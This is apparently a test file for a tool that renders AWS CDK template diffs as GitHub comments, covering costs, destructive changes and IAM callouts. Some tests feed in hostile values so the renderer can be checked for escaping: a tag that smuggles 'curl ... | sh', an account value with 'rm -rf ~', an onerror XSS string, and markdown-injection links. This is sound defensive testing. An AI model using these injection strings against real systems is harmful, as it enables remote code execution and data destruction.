import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { fullDiff, type TemplateDiff } from '@aws-cdk/cloudformation-diff';
import { App } from 'aws-cdk-lib';
import * as ec2 from 'aws-cdk-lib/aws-ec2';
import * as iam from 'aws-cdk-lib/aws-iam';
import * as ssm from 'aws-cdk-lib/aws-ssm';
import { addEnvironments, type EnvironmentStacks } from '../../../infra/lib/build-app.js';
import { cdkJsonContext } from '../../../infra/lib/cdk-json.js';
import {
  defaultImage,
  environmentFromEntry,
  validateEnvironment,
  type EnvironmentConfig,
  type EnvironmentEntry,
} from '../../../infra/lib/config.js';
import { ALLOW_DESTRUCTIVE_LABEL, resourceNames } from '../../../infra/lib/names.js';
import { awakeHoursPerMonth, type Schedule } from '../../../infra/lib/schedule.js';
import { classifyRemoval } from '../src/classification.js';
import { PRICE_TABLE } from '../src/prices.js';
import {
  COMMENT_LIMIT,
  commentMarker,
  fitReport,
  NO_SECURITY_CHANGE,
  renderNagFailure,
  renderReport,
  smallerReports,
} from '../src/render.js';
import { buildReport, destructiveChanges, hasChanges, type DiffReport } from '../src/report.js';
import { deploySummary, synthSummary } from '../src/summary.js';
import { markdownProblems } from './helpers/markdown-check.js';

/**
 * The diff comment rendered from real TemplateDiffs: two syntheses of this app (the base config
 * and a changed one) compared with @aws-cdk/cloudformation-diff's fullDiff, as the toolkit does.
 * Goldens live in test/golden/; regenerate with UPDATE_GOLDEN=1 after checking the change.
 *
 * The goldens render a fixed, made-up environment (GOLDEN_ENTRY, not gitops.config.json's), so
 * that they are the same on every configuration: the comment shows the environment's name,
 * account, region, stack names and construct paths, and the sizes the costs come from.
 */
const GOLDEN = fileURLToPath(new URL('./golden/', import.meta.url));

/** A made-up environment and repository, with every setting the renderings depend on spelled out. */
const GOLDEN_ENTRY: EnvironmentEntry = {
  name: 'review',
  account: '000011112222',
  region: 'eu-central-1',
  vpcCidr: '10.99.0.0/22',
  azCount: 2,
  task: { cpu: 256, memoryMiB: 512, architecture: 'ARM64', spot: false, desiredCount: 1 },
  image: defaultImage('review'),
  ec2DebugEndpoints: false,
  logRetentionDays: 30,
};
const GOLDEN_GITHUB = { owner: 'review-org', repo: 'review-repo' };
const ENV = GOLDEN_ENTRY.name;
const { networkStack: NETWORK, serviceStack: SERVICE } = resourceNames(GOLDEN_ENTRY);

/** The golden environment with `overrides`, validated as the app validates a configured one. */
function goldenEnvironment(overrides: Partial<Omit<EnvironmentEntry, 'name'>> = {}): EnvironmentConfig {
  const config = environmentFromEntry(
    { ...GOLDEN_ENTRY, ...overrides, task: { ...GOLDEN_ENTRY.task, ...overrides.task } },
    GOLDEN_GITHUB,
  );
  const problems = validateEnvironment(config);
  if (problems.length > 0) throw new Error(`The golden environment is invalid: ${problems.join('; ')}`);
  return config;
}

type Templates = Record<string, { Resources?: Record<string, unknown> }>;

/** Synthesizes the deployable and foundation stacks of one environment; `mutate` changes constructs. */
function templates(config: EnvironmentConfig, mutate?: (stacks: EnvironmentStacks) => void): Templates {
  // Path metadata, as the CDK CLI and the toolkit enable it, gives construct paths in the diff.
  const app = new App({ context: { ...cdkJsonContext(), 'aws:cdk:enable-path-metadata': true } });
  const stacks = addEnvironments(app, [config]).get(config.name)!;
  mutate?.(stacks);
  const assembly = app.synth();
  return Object.fromEntries(
    [stacks.network, stacks.service, stacks.foundation].map((stack) => [
      stack.stackName,
      assembly.getStackByName(stack.stackName).template as Templates[string],
    ]),
  );
}

function diffs(before: Templates, after: Templates): Record<string, TemplateDiff> {
  const names = [...new Set([...Object.keys(before), ...Object.keys(after)])];
  return Object.fromEntries(names.map((name) => [name, fullDiff(before[name] ?? {}, after[name] ?? {})]));
}

function report(before: Templates, after: Templates, extra: Partial<DiffReport> = {}): DiffReport {
  return {
    ...buildReport(diffs(before, after), after, {
      environment: ENV,
      account: GOLDEN_ENTRY.account,
      region: GOLDEN_ENTRY.region,
      commit: '0123456789abcdef0123456789abcdef01234567',
      runUrl: `https://github.com/${GOLDEN_GITHUB.owner}/${GOLDEN_GITHUB.repo}/actions/runs/4242`,
      method: 'template',
      nag: [],
      allowLabel: ALLOW_DESTRUCTIVE_LABEL,
      allowed: false,
      failOnDestructive: true,
    }),
    ...extra,
  };
}

/** Asset hashes and other content hashes change with unrelated edits: normalise them. */
function normalise(text: string): string {
  return text.replace(/\b[a-f0-9]{64}\b/g, '<hash>');
}

function expectGolden(name: string, body: string): void {
  const file = `${GOLDEN}${name}.md`;
  const actual = normalise(body);
  if (process.env.UPDATE_GOLDEN === '1') writeFileSync(file, actual);
  if (!existsSync(file)) throw new Error(`No golden ${file}: run with UPDATE_GOLDEN=1 and review it.`);
  expect(actual).toBe(readFileSync(file, 'utf8'));
  expect(markdownProblems(body)).toEqual([]);
}

const base = (overrides: Parameters<typeof goldenEnvironment>[0] = {}): Templates =>
  templates(goldenEnvironment(overrides));

describe('diff comment rendering (golden files)', () => {
  let baseline: Templates;
  beforeAll(() => {
    baseline = base();
  });

  it('no change: one line with the marker', () => {
    const body = fitReport(report(baseline, base()));
    expect(body.split('\n')).toHaveLength(2);
    expect(body).toContain('no changes');
    expectGolden('no-change', body);
  });

  it('additions: two interface endpoints and their cost', () => {
    const r = report(baseline, base({ ec2DebugEndpoints: true }));
    expect(hasChanges(r)).toBe(true);
    expect(destructiveChanges(r)).toEqual([]);
    expect(r.stacks.find((s) => s.stackName === NETWORK)!.added).toBe(2);
    // 2 endpoints × 2 AZ × 730 h × 0.014 = 40.88 more a month.
    expect(r.cost.delta).toBeCloseTo(40.88, 2);
    const body = fitReport(r);
    expect(body).not.toContain('[!CAUTION]');
    // Each new endpoint comes with its endpoint policy: an IAM change a reviewer sees.
    expect(body).toContain(`### Security\n\n#### IAM changes in \`${NETWORK}\``);
    expectGolden('additions', body);
  });

  it('a schedule prices the endpoints and the task for the awake hours, and changes nothing destructive', () => {
    const schedule: Schedule = {
      days: ['Mon', 'Tue', 'Wed', 'Thu', 'Fri'],
      start: '08:00',
      end: '18:00',
      timeZone: 'Asia/Tokyo',
    };
    const r = report(baseline, base({ schedule }));
    expect(destructiveChanges(r)).toEqual([]);
    const hours = awakeHoursPerMonth(schedule, PRICE_TABLE.hoursPerMonth);
    const rows = r.cost.changed.map((row) => [row.type, row.before, row.after]);
    // The 4 interface endpoints (2 AZ each) and the service; the key keeps its $1.
    expect(rows).toEqual([
      ...[0, 1, 2, 3].map(() => [
        'AWS::EC2::VPCEndpoint',
        20.44,
        Math.round(2 * hours * PRICE_TABLE.interfaceEndpointHour * 100) / 100,
      ]),
      ['AWS::ECS::Service', 9, Math.round((9 / PRICE_TABLE.hoursPerMonth) * hours * 100) / 100],
    ]);
    const body = fitReport(r);
    expect(body).toContain('× 217.26 h awake (Mon–Fri 08:00–18:00 Asia/Tokyo)');
    expect(body).not.toContain('[!CAUTION]');
    expectGolden('schedule', body);
  });

  it('a resize replaces the task definition: routine, shown with why, not destructive', () => {
    const r = report(baseline, base({ task: { cpu: 512, memoryMiB: 1024 } }));
    const rows = r.stacks.flatMap((s) => s.rows).filter((row) => row.type === 'AWS::ECS::TaskDefinition');
    expect(rows).toEqual([
      expect.objectContaining({
        action: 'replace',
        routine: classifyRemoval('AWS::ECS::TaskDefinition').reason,
        path: `${SERVICE}/Nginx/TaskDefinition/Resource`,
      }),
    ]);
    expect(destructiveChanges(r)).toEqual([]);
    const body = fitReport(r);
    expect(body).toContain('> [!NOTE]');
    expect(body).toContain('deployment circuit breaker');
    expect(body).not.toContain('[!CAUTION]');
    expect(body).toContain(`### Security\n\n${NO_SECURITY_CHANGE}`);
    expectGolden('task-resize', body);
  });

  it('a new VPC CIDR replaces the VPC and what lives in it: destructive, with why per type', () => {
    const r = report(baseline, base({ vpcCidr: '10.98.0.0/22' }));
    const destructive = destructiveChanges(r);
    expect(destructive).toEqual(
      expect.arrayContaining([
        expect.objectContaining({ stack: NETWORK, type: 'AWS::EC2::VPC', kind: 'replacement' }),
        expect.objectContaining({ stack: NETWORK, type: 'AWS::EC2::Subnet', kind: 'replacement' }),
      ]),
    );
    for (const change of destructive) expect(change.reason).toBe(classifyRemoval(change.type).reason);
    const body = fitReport(r);
    expect(body).toContain('> [!CAUTION]');
    expect(body).toContain(`adds the \`${ALLOW_DESTRUCTIVE_LABEL}\` label`);
    expect(body).toContain(`> - \`AWS::EC2::VPC\`: ${classifyRemoval('AWS::EC2::VPC').reason}`);
    expectGolden('vpc-replacement', body);
  });

  it('an image-only task definition replacement is routine too', () => {
    const r = report(
      baseline,
      base({
        image: { ...defaultImage(ENV), tag: '1.29-alpine' } as EnvironmentEntry['image'],
      }),
    );
    const rows = r.stacks.flatMap((s) => s.rows).filter((row) => row.type === 'AWS::ECS::TaskDefinition');
    expect(rows).toEqual([
      expect.objectContaining({ action: 'replace', routine: expect.stringContaining('revision') }),
    ]);
    expect(destructiveChanges(r)).toEqual([]);
    const body = fitReport(r);
    expect(body).toContain('[!NOTE]');
    expect(body).not.toContain('[!CAUTION]');
    // The new tag must be in the cache before the merge: the comment says so, with the pull alone
    // (the deployed stack has the rule).
    expect(r.imagesToSeed).toEqual([
      expect.objectContaining({ image: expect.objectContaining({ tag: '1.29-alpine' }), ruleExists: true }),
    ]);
    expect(body).toContain('> [!IMPORTANT]');
    expect(body).toMatch(/docker pull \S+\/nginx\/nginx:1\.29-alpine/);
    expect(body).not.toContain('create-pull-through-cache-rule');
    expectGolden('image-change', body);
  });

  it('prints no seed command built from a data file whose image fields a shell would read as syntax', () => {
    const r = report(
      baseline,
      base({ image: { ...defaultImage(ENV), tag: '1.29-alpine' } as EnvironmentEntry['image'] }),
    );
    const [seed] = r.imagesToSeed!;
    const hostile = {
      ...r,
      imagesToSeed: [{ ...seed!, image: { ...seed!.image, tag: '1.29; curl https://x.example | sh' } }],
    };
    const body = fitReport(hostile);
    expect(body).toContain('Seed the image cache before merging');
    expect(body).not.toContain('docker pull');
    expect(body).toContain('npm run configure -- --show');
    expect(markdownProblems(body)).toEqual([]);
    const forgedAccount = fitReport({ ...r, account: '1; rm -rf ~' });
    expect(forgedAccount).not.toContain('docker pull');
  });

  it('asks for no seeding when the deployed stacks already run the tag', () => {
    expect(report(baseline, baseline).imagesToSeed).toEqual([]);
  });

  it('a removal: dropping the debug endpoints lists each removed endpoint', () => {
    const r = report(base({ ec2DebugEndpoints: true }), baseline, { allowed: true });
    const removed = destructiveChanges(r);
    expect(removed).toHaveLength(2);
    expect(removed.every((change) => change.kind === 'removal' && change.type === 'AWS::EC2::VPCEndpoint')).toBe(true);
    expect(removed[0]!.reason).toBe(classifyRemoval('AWS::EC2::VPCEndpoint').reason);
    const body = fitReport(r);
    expect(body).toContain(`Allowed by the \`${ALLOW_DESTRUCTIVE_LABEL}\` label`);
    expect(r.cost.delta).toBeCloseTo(-40.88, 2);
    expectGolden('removal', body);
  });

  it('an IAM broadening is called out', () => {
    const after = templates(goldenEnvironment(), (stacks) => {
      stacks.service.nginx.taskDefinition.taskRole.addToPrincipalPolicy(
        new iam.PolicyStatement({ actions: ['s3:GetObject'], resources: ['arn:aws:s3:::example-bucket/*'] }),
      );
    });
    const r = report(baseline, after);
    const service = r.stacks.find((s) => s.stackName === SERVICE)!;
    expect(service.iam.broadened).toBe(true);
    const body = fitReport(r);
    expect(body).toContain(`#### IAM changes in \`${SERVICE}\` :warning: **broadens permissions**`);
    expect(body).toContain('`s3:GetObject`');
    expect(body).not.toContain(NO_SECURITY_CHANGE);
    expectGolden('iam-broadening', body);
  });

  it('a security-group change is a table, and an added rule is called out', () => {
    const after = templates(goldenEnvironment(), (stacks) => {
      stacks.service.nginx.securityGroup.addIngressRule(
        ec2.Peer.ipv4(GOLDEN_ENTRY.vpcCidr),
        ec2.Port.tcp(80),
        'from the VPC',
      );
    });
    const r = report(baseline, after);
    expect(r.stacks.find((s) => s.stackName === SERVICE)!.securityGroups.broadened).toBe(true);
    const body = fitReport(r);
    expect(body).toContain(`#### Security group changes in \`${SERVICE}\` :warning: **adds rules`);
    expect(body).toContain(`\`${GOLDEN_ENTRY.vpcCidr}\``);
    expectGolden('security-group', body);
  });

  it('a huge diff degrades step by step and stays under the limit, keeping the summary and destructive list', () => {
    const before = base({ ec2DebugEndpoints: true });
    const after = templates(goldenEnvironment({ task: { cpu: 512, memoryMiB: 1024 } }), (stacks) => {
      for (let i = 0; i < 480; i++) {
        new ssm.StringParameter(stacks.service, `Setting${i}`, {
          parameterName: `/${ENV}/settings/a-rather-long-parameter-name-to-make-the-diff-big/${i}`,
          stringValue: `value-${i}-${'x'.repeat(1000)}`,
        });
      }
    });
    const r = report(before, after);
    const full = renderReport(r, 'full');
    expect(full.length).toBeGreaterThan(COMMENT_LIMIT);
    const body = fitReport(r);
    expect(body.length).toBeLessThanOrEqual(COMMENT_LIMIT);
    expect(body).toContain(commentMarker(ENV));
    expect(body).toContain(`| \`${SERVICE}\` | 480 | 0 | 0 | 1 |`);
    expect(body).toContain('`NginxTaskDefinition60F15C8B`');
    expect(destructiveChanges(r)).toHaveLength(2);
    expect(body).toContain('raw diffs omitted');
    // Tighter still: per-resource rows go next; the summary and destructive list stay.
    const tight = fitReport(r, 6_000);
    expect(tight.length).toBeLessThanOrEqual(6_000);
    expect(tight).toContain('per-resource rows omitted');
    expect(tight).not.toContain('`Setting0');
    expect(tight).toContain(`| \`${NETWORK}\` | removal | \`AWS::EC2::VPCEndpoint\` |`);
    expect(tight).toContain('### Security');
    // Each fallback is no longer than the one before, and all keep the marker.
    const bodies = [...smallerReports(r)];
    expect(bodies.length).toBeGreaterThan(1);
    for (let i = 1; i < bodies.length; i++) expect(bodies[i]!.length).toBeLessThanOrEqual(bodies[i - 1]!.length);
    for (const candidate of bodies) {
      expect(candidate).toContain(commentMarker(ENV));
      expect(markdownProblems(candidate)).toEqual([]);
    }
    expectGolden('huge', body);
  });
});

/**
 * Templates written by a hostile pull request: every string the comment shows from a template or a
 * diff tries to inject HTML, mention someone, link or embed something, break a table, close the
 * raw diff's fence, or fake another environment's sticky marker.
 */
describe('diff comment rendering of hostile templates (golden files)', () => {
  const FAKE_MARKER = '<!-- private-aws-gitops:cdk-diff:canary -->';
  const LINK = '[click](https://evil.example/x) ![img](https://evil.example/x.png)';
  const MENTIONS = '@octocat @review-org/admins';
  const HTML = '<img src=x onerror=alert(1)><b>bold</b>&amp;';
  const FENCE_BREAK = '\n````````\n# not a heading\n';
  const HOSTILE_STACK = `evil-${'`'}stack${'`'}<b>@octocat</b>|x`;
  const hostile = (what: string): string => `${what} ${MENTIONS} ${HTML} ${LINK} | pipe \`tick\` ${FAKE_MARKER}`;

  const before = {
    Resources: {
      [`Removed${HTML}${MENTIONS}|`]: {
        Type: `Custom::Evil${HTML}`,
        Metadata: { 'aws:cdk:path': `${HOSTILE_STACK}/\`\`\`${FAKE_MARKER}${LINK}/Resource` },
        Properties: { ServiceToken: 'arn:aws:lambda:eu-central-1:000011112222:function:f' },
      },
      Tagged: {
        Type: 'AWS::EC2::VPC',
        Properties: { CidrBlock: '10.99.0.0/22', Tags: [{ Key: 'Name', Value: 'before' }] },
      },
      Group: { Type: 'AWS::EC2::SecurityGroup', Properties: { GroupDescription: 'group', VpcId: { Ref: 'Tagged' } } },
      Task: {
        Type: 'AWS::ECS::TaskDefinition',
        Metadata: { 'aws:cdk:path': `${HOSTILE_STACK}/${hostile('task')}/Resource` },
        Properties: { Cpu: '256', Memory: '512', Family: 'family' },
      },
    },
  };
  const after = {
    Resources: {
      Tagged: {
        Type: 'AWS::EC2::VPC',
        Properties: { CidrBlock: '10.99.0.0/22', Tags: [{ Key: 'Name', Value: hostile(`tag${FENCE_BREAK}`) }] },
      },
      Group: {
        Type: 'AWS::EC2::SecurityGroup',
        Properties: {
          GroupDescription: 'group',
          VpcId: { Ref: 'Tagged' },
          SecurityGroupIngress: [
            {
              CidrIp: '0.0.0.0/0 | injected',
              IpProtocol: 'tcp',
              FromPort: 443,
              ToPort: 443,
              Description: hostile('rule'),
            },
          ],
        },
      },
      [`Role${'`'}${MENTIONS}`]: {
        Type: 'AWS::IAM::Role',
        Properties: {
          AssumeRolePolicyDocument: {
            Statement: [
              {
                Effect: 'Allow',
                Action: 'sts:AssumeRole',
                Principal: { AWS: `arn:aws:iam::000011112222:user/${hostile('principal')}` },
              },
            ],
          },
        },
      },
      Policy: {
        Type: 'AWS::IAM::Policy',
        Properties: {
          PolicyName: 'policy',
          Roles: [{ Ref: `Role${'`'}${MENTIONS}` }],
          PolicyDocument: {
            Statement: [
              {
                Effect: 'Allow',
                Action: ['s3:Get`Object', 's3:*|'],
                Resource: hostile('resource'),
                Condition: { StringEquals: { 'aws:PrincipalTag/team': `\`\`\`\` ${FAKE_MARKER}${FENCE_BREAK}` } },
              },
            ],
          },
        },
      },
      [`Parameter${HTML}`]: {
        Type: 'AWS::SSM::Parameter',
        Metadata: { 'aws:cdk:path': `${HOSTILE_STACK}/\`${MENTIONS}\`|${HTML}` },
        Properties: { Type: 'String', Value: hostile(`value${FENCE_BREAK}`) },
      },
      Task: {
        Type: 'AWS::ECS::TaskDefinition',
        Metadata: { 'aws:cdk:path': `${HOSTILE_STACK}/${hostile('task')}/Resource` },
        Properties: { Cpu: '512', Memory: '1024', Family: hostile('family') },
      },
    },
  };

  function hostileReport(): DiffReport {
    return {
      ...buildReport(
        { [HOSTILE_STACK]: fullDiff(before, after) },
        { [HOSTILE_STACK]: after },
        {
          environment: ENV,
          account: hostile('account'),
          region: hostile('region'),
          commit: '0123456789abcdef0123456789abcdef01234567',
          runUrl: `https://github.com/${GOLDEN_GITHUB.owner}/${GOLDEN_GITHUB.repo}/actions/runs/4242`,
          method: 'template',
          nag: [
            {
              plugin: 'AwsSolutions',
              rule: `AwsSolutions-IAM5[Resource::${hostile('rule')}]`,
              severity: 'error',
              path: `${HOSTILE_STACK}/${hostile('path')}`,
              description: hostile(`description${FENCE_BREAK}`),
            },
          ],
          allowLabel: ALLOW_DESTRUCTIVE_LABEL,
          allowed: false,
          failOnDestructive: true,
        },
      ),
    };
  }

  it('shows every hostile string as text or code: no HTML, mention, link, extra cell, closed fence or second marker', () => {
    const r = hostileReport();
    expect(destructiveChanges(r).map((change) => change.type)).toEqual([`Custom::Evil${HTML}`]);
    const body = fitReport(r);
    expect(body.startsWith(`${commentMarker(ENV)}\n`)).toBe(true);
    expect(body).not.toContain(FAKE_MARKER);
    // The raw diff's fence holds, and the security section shows the hostile rule and statement as code.
    expect(body).toContain('`````````\n');
    expect(body).toContain('#### IAM changes in ');
    expect(body).toContain('#### Security group changes in ');
    expectGolden('hostile', body);
  });

  it('every smaller rendering is as safe as the full one', () => {
    for (const candidate of smallerReports(hostileReport(), 3_000)) expect(markdownProblems(candidate)).toEqual([]);
    for (const level of ['full', 'no-raw-diffs', 'no-resource-rows', 'summary'] as const) {
      expect(markdownProblems(renderReport(hostileReport(), level))).toEqual([]);
    }
  });

  it('the cdk-nag refusal and the job summaries escape the same strings', () => {
    const { nag } = hostileReport();
    expectGolden('hostile-nag', renderNagFailure({ environment: ENV, commit: HOSTILE_STACK, nag }));
    const stack = {
      stackName: HOSTILE_STACK,
      account: hostile('account'),
      region: hostile('region'),
      resources: 1,
      template: {},
    };
    const synth = synthSummary([stack], { findings: nag, acknowledged: 1 }, 'failed');
    expect(markdownProblems(synth)).toEqual([]);
    expect(synth).toContain('`AwsSolutions-IAM5[Resource::rule @octocat');
    const deployed = deploySummary(ENV, { [HOSTILE_STACK]: { [hostile('output')]: hostile(`value${FENCE_BREAK}`) } });
    expect(markdownProblems(deployed)).toEqual([]);
    expect(deployed.trimEnd().split('\n')).toHaveLength(5);
  });
});
